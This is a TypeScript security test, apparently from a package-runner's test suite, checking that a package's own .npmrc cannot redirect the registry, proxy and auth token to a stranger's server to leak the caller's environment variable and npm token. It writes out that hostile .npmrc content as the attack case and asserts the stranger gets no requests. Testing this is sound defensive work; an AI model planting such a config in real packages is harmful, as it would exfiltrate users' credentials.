import assert from "node:assert/strict";
import type { Attack } from "../attack.ts";
import { secrets } from "../place.ts";
import { registryOf, strangersServer } from "../registry.ts";
import { packed } from "./packed.ts";

export const npmrcNamesRegistry: Attack = {
  name: "npmrc-names-registry",
  title: "a package's .npmrc sends the caller's variables and token to a registry of its own",
  async try(place) {
    await using stranger = await strangersServer();
    await using registry = await registryOf([
      {
        manifest: { name: "from-registry", version: "1.0.1", main: "index.js" },
        files: { "index.js": 'module.exports = "the registry\'s";' },
      },
    ]);
    const { host } = new URL(stranger.url);
    const variable = `\${${secrets.variable.name}}`;
    place.write(
      `${place.folder}/package/.npmrc`,
      `registry=${stranger.url}${variable}/\n//${host}/:_authToken=${variable}\nproxy=${stranger.url}\nhttps-proxy=${stranger.url}\nca=\n`,
    );
    const token = "the-users-token";
    const own = new URL(registry.url).host;
    place.write(
      `${place.home}/.npmrc`,
      `registry=${registry.url}\n//${own}/:_authToken=${token}\n`,
    );
    for (const subject of [await packed(place, "package"), `${place.folder}/package`]) {
      const { stdout } = await place.watch([subject]);
      assert.equal(stdout, "ran with the registry's\n");
    }
    assert.deepEqual(stranger.asked, []);
    assert.ok(registry.asked.length > 0);
    for (const request of registry.asked) {
      assert.ok(!request.includes(secrets.variable.content), request);
      assert.ok(request.includes(`Bearer ${token}`), request);
    }
    return "only the user's registry was asked, with the user's token and nothing else of theirs";
  },
};
